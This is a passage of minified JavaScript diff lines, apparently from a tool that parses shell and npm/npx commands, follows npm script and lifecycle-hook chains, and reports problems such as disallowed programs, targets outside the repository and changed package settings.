+return[[u,l].some(B=>a.name in gt(B))?{kind:"program",name:a.name}:{kind:"package",...a}]}const H1=/^\/(?:usr\/(?:local\/)?|opt\/homebrew\/)?s?bin\/[^/]+$/;
+function ic(t){return li(t)||/\.(?:exe|jar)$/i.test(t)}function oc(t){return/^[.~]{0,2}[\\/]|^[A-Za-z]:[\\/]|^[\w.@-]+[\\/]/.
+test(t)&&!t.includes("://")}function z1(t){const[e,n]=t.filter(s=>!s.startsWith("-"));return e==="run"||e==="run-script"?
+n:e}const kp=/^(?:add|ci|clean-install|i|install)$/;function U1(t){if(t===void 0)return[];const e=n=>[`pre${n}`,n,`post${n}`];
+return kp.test(t)?[...new Set([t,"install","prepare"].flatMap(e)),"prepublish"]:e(t)}const vp=["",".js",".mjs",".cjs",".\
+ts","/index.js",".py","/__main__.py","/__init__.py"],J1=/^(?:-[celuvw]|--(?:add-host|call|directory|entrypoint|env|env-file|index-url|label|mount|name|network|platform|prefix|publish|python|registry|user|volume|with|workdir|workspace))$/,
+Z1=/.@v?\d+\.\d+\.\d+[\w.+-]*$|==\d+(?:\.\d+)+\w*$|@sha256:[0-9a-f]{64}$|[#@][0-9a-f]{40}$/;function K1({fetches:t},e){const n=e.
+filter(o=>!o.startsWith("-")),s=[2,1,0].find(o=>o<=n.length&&t?.test(n.slice(0,o).join(" ")));if(s===void 0)return;const r=s===
+0?0:e.indexOf(n[s-1]??"")+1,i=e.slice(r).map(o=>o.replace(/^--(?:from|package)=/,"")).find((o,a,c)=>!/^(?:-|[\d.:]+\w?$)/.
+test(o)&&!J1.test(c[a-1]??""));return i===void 0?void 0:{name:i,isExact:Z1.test(i)}}async function q1({body:t,words:e,span:n},s,r){
+const i=w1(t,jn(s.tree,s.directory)),o=i.fault?en(i.commands).map(Ya):i.commands,a=[];let{fault:c}=i,u=s;for(const[B,f]of o.
+entries()){const h=!c||f.words.every(D=>!yi(f,D)),m=B===o.length-1&&!i.fault,g=[...f.words.map(D=>({...D,span:n})),...m?
+e:[]],[C,b]=g;if(C?.text==="cd"){const D=b&&xe(ct(u,b.text));(B>0||g.length!==2||D===void 0)&&(c??={part:"cd",why:"chang\
+es the directory in the middle, or leaves the repository"}),u={...u,directory:D??u.directory};continue}const y=O1(g);y&&
+(c??=await A1(y,u)),!(y||C===void 0||!h||da(C.text))&&a.push(await Y1(g,u,r))}const l=o.some(({words:B})=>W1.test(B.map(
+({text:f})=>f).join(" "))),d=!c&&a.length===0&&o.length>0&&!l;return{parts:a,isIdle:d,...c&&{fault:c}}}const W1=/^(?:\[|exit (?!0$)|false|test )/,
+V1=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;async function Y1(t,e,n){const s=yp(t[0]?.text??"")?t:Qs(t),[r,...i]=s;if(r===
+void 0)return $e;const{families:o}=e,a=fs(r.text)?r.text:o?.allowed.get(r.text),c=V1.exec(r.text)?.[1]??r.text,u=t[0]===
+r?void 0:t[0],l=u?ac(u):$e;if(a===void 0&&/[\\/]/.test(c))return Se([l,await Dp(s,e)]);const{invocation:d,problems:B}=a?
+Oa(a,i,o):Oa("npx",[{...r,text:c},...i],o),f=await n.resolve(d,e),h=a===void 0&&f.problems.some(({rule:C})=>C==="binary-\
+missing");if(h&&o.tools.known(c)!==void 0)return Se([l,ac(r),{targets:[],problems:B}]);if(h)return Se([l,await Dp(s,e)]);
+const g=Ph(d,e.directory);return Se([l,{targets:[],problems:[...B,...g]},f])}function ac({text:t,span:e}){return ue("pro\
+gram-not-allowed",e,{program:t,group:"other"})}async function Dp(t,e){const[n]=t;if(n===void 0)return $e;const s=t.find(
+({text:i,span:o})=>o.start!==n.span.start&&(i.startsWith("-")||at(n.text))),r=s?ue("npm-script-form",s.span,{script:e.via??
+"",text:t.map(({text:i})=>i).join(" "),part:n.text,why:"is a program that the gate does not read",words:[s.text]}):$e;return Se(
+[ac(n),r,await X1(t,e)])}async function X1(t,e){const n=new Kc(e.tree,[e.directory]),s=t.map(c=>({...c,shown:c.text,isKnown:!0})),
+i=(await bp(s,n)).flatMap(({kind:c,name:u})=>c==="file"?[u]:[]),o=t[0]?.span??{start:0,end:0},a={...e,directory:""};return Se(
+i.map(c=>Fa(a,{text:c,span:o})))}function Q1(t,e,n){const s=en(Zt(t)),r=s.some(B=>B.substituted.length>0||[...B.words,...B.
+assignments].some(f=>yi(B,f))),i=[...new Set(t.split(eI).filter(B=>B!==""))],o=[e.directory];for(const{words:B}of s){const[
+f,h]=B;if(!(!/^(?:cd|pushd)$/.test(f?.text??"")||h===void 0)&&(o.push(...o.flatMap(m=>xe(ie.posix.join(m,h.text))??[])),
+o.length>tI))break}const a=[...e.changed],c=[...new Set(o)].flatMap(B=>i.map(f=>{const h={...e,directory:B},m=xe(ie.posix.
+join(B,f));if(m===void 0)return $e;const g=Ve(e.tree,m);if(g.kind==="inside"&&lt(g.entry.kind))return Fa(h,{text:f,span:n});
+const C=a.filter(b=>/[*?[]/.test(f)?mi(b,m,{dot:!0}):g.kind==="inside"&&m!==""&&vt(b,m));return Se(C.map(b=>ue("target-c\
+hanged",n,{path:b})))})),u=r?a.filter(li):[],{targets:l,problems:d}=Se([...c,...u.map(B=>ue("target-changed",n,{path:B}))]);
+return{targets:[...new Map(l.map(B=>[B.path,B])).values()],problems:[...new Map(d.map(B=>[JSON.stringify(B.args),B])).values()]}}
+const eI=/[\s"'`;&|()<>=:,{}]+/,tI=16;function nI(t,e,n,s){const{directory:r,event:i,words:o}=e;return s.follow(`${r}\0${i}`,
+`${nc(e)}\0${o.length}`,()=>rI(t,e,n,s),a=>sI(a,i,n))}async function xp(t,e,n,s){const r=e.length>0?[await B1(t,n)]:[];for(const i of e)
+r.push(await nI(t,i,n,s));return Se([...r,Op(t,n)])}function Op({directory:t,changed:e},n){const s=ie.posix.join(t,"pack\
+age.json");return e.has(s)?ue("target-changed",n,{path:s}):$e}function sI(t,e,n){return t.why==="cycle"?ue("npm-script-c\
+ycle",n,{script:e}):ue("npm-script-chain",n,{script:e,limit:t.limit,what:t.why})}async function rI(t,e,n,s){const{event:r,
+body:i,words:o}=e,a=nc(e),c={targets:[Bi(t,{kind:"npm_script",name:r,script:a})],problems:[]},u=c1(a);if(u!==void 0)return Se(
+[c,ue("npm-script-dangerous",n,{script:r,text:a,danger:u})]);const l={...t,via:r},{parts:d,fault:B,isIdle:f}=await q1({body:i,
+words:o,span:n},l,s),h=await iI(t,e),m=[c];let g=B!==void 0;for(const{problems:C,targets:b}of d){const{kept:y,refused:D}=aI(
+C,o);if(m.push({targets:b,problems:y.map(cI(h))}),D===void 0)continue;const O=Sp(D)&&!Ap(D);g||=O;const v=O&&!h?"error":
+void 0,I={script:r,text:a,reason:D.rule};B||m.push(ue("npm-script-text",n,I,v))}if(f&&m.push(ue("only-prints",n,{program:"\
+npm",flag:`run ${r}`})),B===void 0)m.push(oI(o));else{const C=h&&o.length===0?"notice":void 0,b={script:r,text:a,...B,words:o.
+map(y=>y.text)};m.push(ue("npm-script-form",o[0]?.span??n,b,C))}return g&&h&&m.push(Q1(i,l,n)),Se(m)}async function iI({
+base:t,directory:e,changed:n},{event:s,body:r}){return(t&&(await Ut(t,e))?.scripts.get(s))===r&&(!n.has(ct({directory:e},
+"package.json"))||!/npm_/.test(r))}function oI(t){const e=t.flatMap(n=>Df(un(`x ${Cp(n.text)}`).problems).map(s=>({...s,
+span:n.span})));return{targets:[],problems:e}}function aI(t,e){const n=({span:o})=>e.some(a=>uI(a.span,o)),s=t.filter(o=>n(
+o)||dI(o)),r=t.filter(o=>!s.includes(o)),i=r.filter(Sp);return{kept:s,refused:i.find(o=>!Ap(o))??i[0]??r[0]}}function Ap({
+rule:t}){return t==="program-not-allowed"}function cI(t){return e=>t&&e.rule==="tool-unknown"?{...e,severity:"notice"}:e}
+function uI(t,e){return t.start<e.end&&t.end>e.start}function Sp({severity:t}){return t==="error"}const lI=new Set(["bui\
+ld-files-unread","dependency-not-compared","dependency-redirected","target-changed","target-writes","not-installed","onl\
+y-prints","tool-runs-file","tool-unknown","workspaces-changed"]);function dI({rule:t,args:e}){return t==="dependency-unv\
+erified"?"fault"in e&&["removed","stale"].includes(e.fault):lI.has(t)||t.startsWith("npm-script-")||t.startsWith("npmrc-")}
+const BI=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(t=>`.${t}`)];async function fI(t,e){return Tp(
+t.tool??{files:[],roots:[],nodeFlags:[]},e)}function hI({files:t=[],flags:e,family:n},s){const r=e.flatMap(({name:i,value:o})=>o&&
+n&&pf(n,i)?o:[]);return Tp({files:t,roots:r,nodeFlags:[]},s)}async function Tp({files:t,roots:e,nodeFlags:n},s){const r=[
+"",...e].flatMap(o=>{const a=xe(ct(s,o));return a===void 0?[]:[a]}),i=[];for(const o of t)i.push(o.as==="tests"?await gI(
+o,s):await pI(o,[...new Set(r)],s));for(const o of n)i.push(await Qh(o,s));return Se(i)}async function pI(t,e,n){const{as:s,
+path:r,span:i}=t,o=ln(r,i,n.directory);if(o!==void 0)return{targets:[],problems:[o]};const a=[];for(const c of e){const u=xe(
+ie.posix.join(c,r));if(u===void 0)continue;const l=await mI(t,u,n);l!==void 0&&a.push(l)}return a.length>0?Se(a):s==="co\
+de"||s==="config"?Ra(n.tree,ie.posix.join(n.directory,r),r,i):s==="module"&&t.first?ep(n,r,i):$e}async function mI(t,e,n){
+const{as:s,path:r,span:i}=t,{tree:o}=n,a=Yh(o,s==="place"?[e]:BI.map(u=>e+u));if(a===void 0)return;const c=a.kind==="ins\
+ide"&&!lt(a.entry.kind);if(s==="place"&&a.kind==="inside")return $e;if(!c)return cc(t,e,a,n);if(s==="config"){const u=Ve(
+o,ie.posix.join(a.path,"tsconfig.json"));return u.kind==="missing"?$e:cc(t,e,u,n)}return Xh(n,{path:r,wanted:e},i,u=>cc(
+t,e,u.found,n))}async function cc({as:t,path:e,span:n,ifFile:s},r,i,o){const a=await Wa(o,{path:e,wanted:r,found:i},n);return t===
+"module"&&s&&a.targets.length>0?Se([{targets:[],problems:[s]},a]):a}function gI({path:t,span:e},n){return Wh(n,t,e,async s=>s.
+found.kind==="inside"&&lt(s.found.entry.kind)?Wa(n,s,e):$e)}async function CI(t,e,n){const{subcommand:s,operands:r,flags:i}=t,
+[o]=r,a=o?.span??i[0]?.span??{start:0,end:0};if(s==="exec")return o===void 0?$e:uc(e,t,o);const{project:c,selected:u,runs:l,
+packages:d,problems:B}=await fp(t,e,a);if(c===void 0)return{targets:[],problems:B};const f=[await Pa({...e,directory:c},
+a)];for(const h of d){const m=l.filter(g=>g.directory===h);f.push(await xp({...e,directory:h},m,a,n))}return u&&!d.includes(
+c)&&f.push(Op({...e,directory:c},a)),Se([...f,{targets:[],problems:B}])}async function uc(t,e,{text:n,span:s}){if(!Ks(n))
+return $e;const r=e.starts==="file",i=r?$e:await Zh(t,a=>yI(a,n,s));if(!r&&i.targets.length===0)return i;const o=await fI(
+e,t);return Se([i,Us(t.families.tools,n)?$e:ue("tool-unknown",s,{tool:n}),o])}async function yI(t,e,n){const{tree:s}=t,r=await Ws(
+s,""),i=(await tc(s)).get(e);if(i!==void 0&&t.via!==void 0&&s.stat("node_modules")===void 0)return Fa(t,{text:i.file,span:n});
+if(r===Qt)return ue("package-json-invalid",n,{path:"package.json"});if(r?.binaries.has(e))return ue("binary-shadowed",n,
+{name:e,path:r.path});const o=ct(t,`node_modules/.bin/${e}`);if(t.directory!==""&&s.stat(o)!==void 0)return ue("dependen\
+cy-unverified",n,{name:e,path:o,fault:"elsewhere"});const a=s.stat("node_modules");if(a===void 0)return vI(t,r,e,n);const c=await EI(
+s,e),u=s.stat(c),l=Ve(s,c);if(u===void 0||l.kind==="missing")return ue("binary-missing",n,{name:e});if(l.kind!=="inside")
+return ue("target-outside",n,{path:c,reason:"symlink"});const d=ms(l.path),B=a.tracked||u.tracked,f=!B&&l.entry.tracked&&
+await bI(s,l.path);if(d===void 0&&!f||!lt(l.entry.kind))return ue("dependency-unverified",n,{name:e,path:l.path,fault:"e\
+lsewhere"});if(!f&&(B||l.entry.tracked)){const g={name:d??e,path:l.path,fault:"committed"};return ue("dependency-unverif\
+ied",n,g)}const h=f?await Ja(t,_I(s,c)??e,n):await wI(t,e,l.path,n);if(h.some(Za))return{targets:[],problems:h};if(!await kI(
+s,l.path))return ue("binary-not-node",n,{name:e,path:l.path});f&&t.changed.has(l.path)&&h.push(be("target-changed",n,{path:l.
+path}));const m={kind:"package_binary",name:e,path:l.path};return{targets:[Bi(t,m)],problems:h}}async function wI(t,e,n,s){
+const r=ms(n)??e,i=n.slice(`node_modules/${r}/`.length),o={name:e.startsWith("@")?void 0:e,file:i},a=await Xs(t,{name:r,
+path:n,binary:o},s);return r===e||!(await Jt(t.tree)).npm?.packages.has(e)?a:[...a,...await Ja(t,e,s)]}async function bI(t,e){
+return(await cp(t)).some(n=>vt(e,n))}function _I(t,e){return ms(ie.posix.join(ie.posix.dirname(e),t.readlink(e)??""))}async function EI(t,e){
+const n=`node_modules/.bin/${e}`;if(!e.startsWith("@"))return n;const s=await Ut(t,`node_modules/${e}`);if(s===void 0)return n;
+const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function kI(t,e){
+return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await DS(t,e))}async function vI(t,e,n,s){const r=await DT(t.tree,n,e?.
+dependencies??new Set);if(r===void 0)return ue("binary-missing",s,{name:n});const i={kind:"package_binary",name:n},o=await Xs(
+t,{name:r,path:n},s);return{targets:[Bi(t,i)],problems:[t.tree.isPending?.("node_modules")?be("target-not-judged",s,{path:n}):
+be("not-installed",s,{name:n}),...o]}}async function Ip(t,e,n,s){const{subcommand:r,operands:i,flags:o}=t,[a]=i;if(a===void 0)
+return $e;const{text:c,span:u}=a,l=Se([await Pa({...n,directory:""},u),n.directory===""?$e:await Pa(n,u)]),d=fs(c)||n.families?.
+allowed.has(c)===!0,B={...t,subcommand:"exec"};if(r==="exec")return Se([l,d?$e:await uc(n,B,a)]);const f=await DI(n,Rp(t,
+e),u);if("problems"in f)return Se([l,f]);const h=f.filter(({manifest:C})=>C.scripts.has(c));if(h.length>0){const C=h.map(
+b=>xI(b,t,n,s));return Se([l,...await Promise.all(C)])}const m=c==="start";if(r==="script-or-tool"&&!m){if(d)return l;if(Ks(
+c))return Se([l,await uc(n,B,a)]);if(!/^[\w:.-]*\w[\w:.-]*$/.test(c)){const C=[et("outside-code",e.program,a)];return Se(
+[l,{targets:[],problems:C}])}}const g={script:c,passes:o.some(({name:C})=>C==="--if-present")};return Se([l,ue("npm-scri\
+pt-missing",u,g,m?"error":void 0)])}function $p({data:t}){return t.starts==="script-or-tool"||t.starts==="script-tool-or\
+-file"}function Rp({anyPackage:t,flags:e,passthrough:n},{data:s}){const r=[...e.map(({name:i})=>i),...n.map(({text:i})=>i)];
+return t===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function DI({tree:t,directory:e},n,s){const r=Ur(
+t,"package.json").flatMap(({path:c})=>c.split("/").includes("node_modules")?[]:ie.posix.dirname(c).replace(/^\.$/,"")),i=c=>t.
+stat(ie.posix.join(c,"package.json"))!==void 0,o=n?r:Ys(e).filter(i).slice(0,1);if(o.length===0)return ue("package-json-\
+missing",s,{directory:e});const a=[];for(const c of o){const u=await Ws(t,c);if(u===Qt)return ue("package-json-invalid",
+s,{path:ie.posix.join(c,"package.json")});u!==void 0&&a.push({directory:c,manifest:u})}return a}async function xI({directory:t,
+manifest:e},{operands:[n],passthrough:s},r,i){const o={...r,directory:t},{text:a="",span:c={start:0,end:0}}=n??{},u=gp(e,
+t,{event:a,words:s});return Se([await xp(o,u,c,i),{targets:[],problems:hp(u,a,o,c)}])}const OI=5;async function AI(t,e,n,s){
+const r=SI(t,e,n);if("problems"in r)return r;const{subcommand:i,starts:o,operands:a,module:c,launched:u}=t,[l]=a,d=[TI(e,
+n,lc(t)),...RI(t,r),await hI(t,n)],B={subcommand:i??l?.text??"",span:lc(t)};if(d.push(PI(e,r,B)),c!==void 0&&(o!=="modul\
+e"||u)&&d.push(LI(e,r,c)),l!==void 0&&o==="file"&&d.push(NI(t,e,r)),l!==void 0&&o==="module"&&d.push(FI(r,l,t.passthrough)),
+!$p(e))return Se(d);if(i==="run"||i==="exec"||i==="script-or-tool")d.push(await Ip(t,e,r,s));else if(i!==void 0&&Rp(t,e)){
+const f={text:i,span:lc(t),quoted:!1},h={...t,subcommand:"run",operands:[f]};d.push(await Ip(h,e,r,s))}return Se(d)}function lc({
+operands:t,flags:e}){return t[0]?.span??e[0]?.span??{start:0,end:0}}function SI({flags:t},e,n){let s=n;for(const{name:r,
+value:i,span:o}of t){if(i===void 0||!pf(e,r))continue;const a=kh(s,i,o);if("problems"in a)return a;s={...n,directory:a.path}}
+return s}function TI({program:t,data:e},{tree:n,changed:s},r){if(e.build_files.length===0)return $e;const i=II(n),o=i.get(
+e)??$I(n,e.build_files);i.set(e,o);const a=o.filter(u=>s.has(u)),c=o.slice(0,OI);return Se([o.length===0?$e:ue("build-fi\
+les-unread",r,{program:t,files:c,count:o.length}),...a.map(u=>ue("target-changed",r,{path:u}))])}const II=Yt(()=>new Map);
+function $I(t,e){const n=s=>e.some(r=>mi(r.includes("/")?s:ie.posix.basename(s),r,{dot:!0}));return[...t.files()].flatMap(
+({path:s})=>!vt(s,"node_modules")&&n(s)?s:[])}function RI({operands:t,flags:e,starts:n,subcommand:s,family:r},i){const o=r&&
+$p(r)&&s!=="test";return[...(n===void 0&&!o?t:[]).map(({text:u,span:l})=>({text:u.replace(/::.*$/s,""),span:l})),...e.flatMap(
+({value:u,span:l})=>u===void 0?[]:[{text:u,span:l}])].map(({text:u,span:l})=>{const d=xe(ct(i,u));return d===void 0||d===
+""?$e:vt(d,".git",{ignoreCase:!0})?ue("target-outside",l,{path:d,reason:"git"}):Ve(i.tree,d).kind==="outside"?ue("target\
+-outside",l,{path:u,reason:"symlink"}):$e})}function NI({operands:[t],parsed:e},n,s){if(t===void 0)return $e;const{targets:r,
+problems:i}=Np(s,t),o=xa(n,t.text,t.span).length>0,a=r.flatMap(({path:c=""})=>o?[]:xa(n,c,t.span));return{targets:r.map(
+c=>({...c,...e&&{parsed:e}})),problems:[...i,...a]}}function Np(t,{text:e,span:n}){const s=ln(e,n,t.directory);if(s!==void 0)
+return{targets:[],problems:[s]};const r=kh(t,e,n);if("problems"in r)return r;if(!lt(r.kind))return ue("target-not-a-file",
+n,{path:e,reason:r.kind});if(!r.tracked)return ue("target-missing",n,{path:e,untracked:!0});const i=xe(ct(t,e))??"";return La(
+t,{name:e,path:r.path,wanted:i},n)}function FI(t,e,n){const{text:s,span:r}=e,i=ka(s).find(o=>!o.endsWith("/__init__.py")&&
+t.tree.stat(ct(t,o))!==void 0);if(i===void 0){const o=jA(e,n,t.families.tools.module);return Se([ue("tool-unknown",r,{tool:s}),
+{targets:[],problems:o}])}return Np(t,{text:i,span:r,quoted:!1})}function LI({program:t},{tree:e,base:n,changed:s,directory:r},{
+text:i,span:o}){const[a]=i.split("."),c=[...s].filter(u=>{const[,l=""]=/^(\w+)(?:\.py|\/__init__\.py)$/.exec(ie.posix.relative(
+r,u))??[];return e.stat(u)!==void 0&&n?.stat(u)===void 0&&(l===a||Bh(l))});return Fp(c,{program:t,subcommand:`-m ${i}`},
+o)}function PI({program:t,data:e},{changed:n,directory:s},{subcommand:r,span:i}){const o=Ys(s).flatMap(c=>e.settings.map(
+u=>ie.posix.join(c,u))),a=[...n].filter(c=>o.some(u=>vt(c,u)));return Fp(a,{program:t,subcommand:r},i)}function Fp(t,e,n){
+return Se(t.map(s=>ue("settings-changed",n,{...e,path:s})))}function jI(t,e,n){const s=new kS((r,i)=>Lp(r,i,s),n);return Lp(
+t,e,s)}async function Lp(t,e,n){const s=[];for(const r of[t,...ui(t)]){const i=await HI(r,e);if("rule"in i)s.push({targets:[],
+problems:[i]});else for(const o of i)s.push(await MI(o,e,n))}return Se(s)}function MI(t,e,n){const{program:s,family:r}=t;
+return r!==void 0?AI(t,r,e,n):s==="node"?NT(t,e):CI(t,e,n)}const GI=/^[\w:.@/-]{1,200}$/;async function HI(t,e){const{selects:n,
+...s}=t,[r]=s.operands;if(n===void 0||r===void 0)return[t];const{text:i,span:o}=r,a=be("outside-code",o,{program:"npm",flag:i}),
+c=zI(i,n);if(c===void 0)return a;const l=[...(await Ut(e.tree,e.directory))?.scripts.keys()??[]].filter(c);return l.length===
+0?be("npm-script-missing",o,{script:i,passes:!1}):l.every(d=>GI.test(d))?l.map(d=>({...s,operands:[{...r,text:d}]})):a}function zI(t,e){
+const n=i=>e==="wildcard"?i.replaceAll("/",":"):i.replace(/[:/]/g,UI),s=Vs(n(t));if(!s?.every(i=>i.split(/[:/]/).every(jh)))
+return;const r={dot:e==="wildcard"};return i=>s.some(o=>mi(n(i),o,r))}function UI(t){return t===":"?"/":":"}const Pp={start:0,
+end:0},JI=200;function jp({steps:t}){return t.flatMap(e=>e.command?.nested?jp(e.command.nested):[e])}async function Mp(t,e,n={
+left:JI}){const{subcommand:s,flags:r}=t;if(s===void 0)return;const{project:i,selected:o,runs:a,packages:c}=await fp(t,e,
+Pp);if(i===void 0)return;const u=await hs({...e,directory:i}),l=await Gp(e,i);if("unread"in u||l===void 0)return;const{settings:d}=u,
+B=e$.some(C=>C in d);if(l.devEngines!==void 0||B)return;const f=[],h=t$(r,d);for(const C of c){const b=await Gp(e,C);if(b===
+void 0||ZI(b))return;const y=a.filter(O=>O.directory===C),D=y.length===0?await VI(t,e,C):void 0;D!==void 0&&f.push({...Hp(
+b),...D,directory:C});for(const O of y){const v=await KI(O,e,h,n);f.push({...Hp(b),...v})}}const m=d["node-options"],{prefix:g}=Ua(
+t);return{subcommand:s,directory:e.directory,project:i,prefixed:g!==void 0,inWorkspaces:o,config:h,...typeof m=="string"&&
+{nodeOptions:m},steps:f}}async function Gp({tree:t},e){const n=await ps(t,ct({directory:e},"package.json"));return n===void 0||
+n===Qt?void 0:gt(n)}function ZI({bin:t,directories:e}){return!t&&"bin"in gt(e)}function Hp(t){const{name:e,version:n}=t;
+return{packageId:e&&n?`${String(e)}@${String(n)}`:"",packageEnv:n$(t)}}async function KI(t,e,n,s){const{directory:r,event:i,
+body:o}=t,a=nc(t),c={...e,directory:r},u=XI(a),l=await WI(u,c,{config:n,budget:s}),d=t.words.map(f=>f.text),B=u&&{...u,...l&&
+{nested:l}};return{directory:r,event:i,body:o,words:d,text:a,...B&&{command:B}}}const qI=new Set(["--if-present","--incl\
+ude-workspace-root","--workspace","--workspaces"]);async function WI(t,e,{config:n,budget:s}){if(!(t?.argv[0]==="npm"&&Object.
+keys(t.env).length===0)||n.npm_config_ignore_scripts==="true"||(s.left-=1,s.left<0))return;const i=t.argv.slice(1).map(u=>({
+text:u,span:Pp,quoted:!0})),{invocation:o,problems:a}=th(i),c=o.flags.every(({name:u})=>qI.has(u));if(!(a.length>0||!c))
+return Mp(o,e,s)}async function VI(t,{tree:e},n){const s=mp(t),r=(await Ut(e,n))?.scripts.has(s??"");if(!(s===void 0||r||
+Ua(t).ifPresent))return{event:s,words:[],text:""}}function YI(t){return Ba(t)||da(t)||t==="nohup"}function XI(t){const{words:e,
+assignments:n,refused:s,problems:r}=un(t),i=r.every(({rule:l,severity:d})=>l==="assignment-refused"||d==="warning"&&l!==
+"unquoted-glob"),o=r.filter(({rule:l})=>l==="assignment-refused").length,[a]=e;if(!i||o!==s.length||a===void 0||YI(a.text)||
+a.text.includes("="))return;const c=[...n,...s].sort((l,d)=>l.span.start-d.span.start);if(c.some(({name:l})=>l==="PATH"))
+return;const u=Object.fromEntries(c.map(({name:l,value:d})=>[l,d]));return{argv:e.map(l=>l.text),env:u}}const QI=new Set(
+`browser cache cache-max cache-min fetch-retries if-present include-workspace-root init.author.email
+  init.author.name init.author.url init.license init.version legacy-bundling min-release-age offline
+  prefix update-notifier workspace workspaces`.split(/\s+/)),e$=["also","dev","include","omit","only","optional","produc\
+tion"];function t$(t,e){const n=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes(ja(i,o))),s=t.map(({name:i,
+value:o,negated:a})=>[i.slice(2),o??a!==!0]),r=[...n,...s].filter(([i])=>!QI.has(i));return Object.fromEntries(r.map(([i,
+o])=>[`npm_config_${i.replaceAll("-","_").toLowerCase()}`,zp(o)]))}function zp(t){return Array.isArray(t)?t.map(zp).join(
+`
+
+`):t==null||t===!1?"":String(t).trim()}function n$(t){const{name:e,version:n,config:s,engines:r,bin:i}=t,o={};return dc(
+{name:e,version:n,config:s,engines:r,bin:s$(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([a])=>/^[A-Za-z_]\w*$/.
+test(a)))}function dc(t,e,n){for(const[s,r]of Object.entries(t))if(r!==void 0)if(r===null||r===!1)n[`${e}${s}`]="";else if(Array.
+isArray(r))for(const[i,o]of r.entries())dc({[`${s}_${i}`]:o},e,n);else typeof r=="object"?dc(r,`${e}${s}_`,n):n[`${e}${s}`]=
+String(r)}function s$(t,e){const r=Object.entries(hi(t,typeof e=="string"?e:"")??{}).map(([i,o])=>[ie.posix.basename(Up(
+i)),Up(o)]).filter(([i,o])=>i&&o);return r.length>0?Object.fromEntries(r):void 0}function Up(t){return ie.posix.join("/",
+t.replaceAll("\\","/")).slice(1)}const r$=new Set;async function i$(t,e={}){const n=u$(t,e),{tree:s,base:r,changed:i=r$,
+cwd:o="",clock:a,programs:c=qr}=e,{isOutput:u}=e;if(n.invocation===void 0||n.argv===null)return n;if(s===void 0)return{...n,
+problems:[...n.problems,...o$(n.invocation,c)]};const l={tree:s,directory:o,changed:i,families:c,...r&&{base:r},...u&&{isOutput:u}},
+{invocation:d}=n,{targets:B,problems:f}=await jI(d,l,a);return{...n,...await a$(d,B,l),targets:B,problems:g$(n.problems,
+f).map(h=>m$(h,n.command))}}function o$(t,{tools:e}){return[t,...ui(t)].flatMap(({subcommand:n,operands:[s]})=>n==="exec"&&
+s&&Ks(s.text)&&!Us(e,s.text)?[be("tool-unknown",s.span,{tool:s.text})]:[])}async function a$(t,e,n){if(t.program!=="npm"&&
+t.program!=="npx")return{};const s=await Mp(t,n),r=e.some(({kind:a,via:c})=>a==="package_binary"&&c===void 0),o=(s?jp(s).
+some(({text:a})=>c$.test(a)):!r)?await MS(n.tree,n.changed):[];return{...s&&{scripts:s},...o.length>0&&{npmSettings:o}}}
+const c$=/(?:^|[^\w.-])np[mx](?![\w.-])/;function u$(t,{tree:e,cwd:n="",programs:s=qr}={}){if(typeof t!="string")return d$(
+t);const{words:r,assignments:i,problems:o}=un(t,e&&jn(e,n)),a=Df(o),[c]=r,u=(C,b,y)=>({command:t,words:r,assignments:i,argv:C,
+...y===void 0?void 0:{invocation:y},targets:[],problems:b});if(c===void 0)return u(null,a);const l=ha({problems:a})?r.map(
+({text:C})=>C):null,{program:d,problem:B}=f$(t,r,s);if(B?.rule==="sentence")return u(l,[B,...a]);if(d===void 0)return u(
+l,[...a,B]);const f=l$(r,a).slice(1),{invocation:h,problems:m}=Oa(d,f,s),g=Ph(h,n);return u(l,[...a,...m,...g],h)}function l$(t,e){
+const n=e.find(s=>s.rule==="shell-operator"||Dn(s,"line-break")&&!s.args.quoted);return n===void 0?t:t.filter(({span:s})=>s.
+start<n.span.start)}function d$(t){const e=t===null?"null":Array.isArray(t)?"array":typeof t,n=be("command-not-text",{start:0,
+end:0},{type:e});return{command:"",words:[],assignments:[],argv:null,targets:[],problems:[n]}}const B$=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;
+function f$(t,e,{allowed:n,offered:s,tools:r}){const[i]=e,o=i?.text??"",a=fs(o)?o:n.get(o);if(a!==void 0)return{program:a};
+const c=i?.span??{start:0,end:0},u=(B,f)=>({program:void 0,problem:be(B,c,f)}),[,l]=B$.exec(o)??[];if(l===void 0&&QA(t)){
+const B=e.at(-1)?.span.end??c.end;return{program:void 0,problem:be("sentence",{start:c.start,end:B},{})}}const d=p$(o,s);
+return/[\\/]/.test(o)?u("program-by-path",{program:o,...d}):l!==void 0?u("program-look-alike",{program:o,meant:l.toLowerCase()}):
+u("program-not-allowed",{program:o,group:at(o)?.kind??(r.known(o)?"npx":"other"),...d,allowed:[...n.keys()]})}const h$=new Map(
+[["gmake","make"],["bunx","bun"],["pnpx","pnpm"],["yarnpkg","yarn"],["uvx","uv"],["py.test","pytest"],["py","python"]]);
+function p$(t,e){const n=e(t);if(n!==void 0)return{offered:n};const s=t.replace(/^.*[\\/]/,"").replace(/\.(?:exe|cmd|bat|ps1)$/i,
+"").replace(/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),r=h$.get(s)??s,i=e(r);return i===void 0?{offered:""}:{offered:i,word:r}}
+function m$(t,e){const n=e.slice(t.span.start,t.span.end);return Dn(t,"target-missing")&&/^[^'"\s]*\\[^'"\s]*$/.test(n)?
+{...t,args:{...t.args,written:n}}:t}function g$(t,e){const n=new Set(t.map(Jp)),s=[...t];for(const r of e){const i=Jp(r);
+n.has(i)||(n.add(i),s.push(r))}return s}function Jp({rule:t,span:e,args:n}){return JSON.stringify([t,e.start,e.end,n])}const C$=Et(
+import.meta.url)("node:timers/promises"),Zp=null;async function Oz(t,e){const n=new AbortController,s=()=>{for(const o of Zp)
+process.off(o,r)},r=()=>{s(),n.abort()};let i=!1;process.once("exit",()=>{i||(process.exitCode=t)});for(const o of Zp)process.
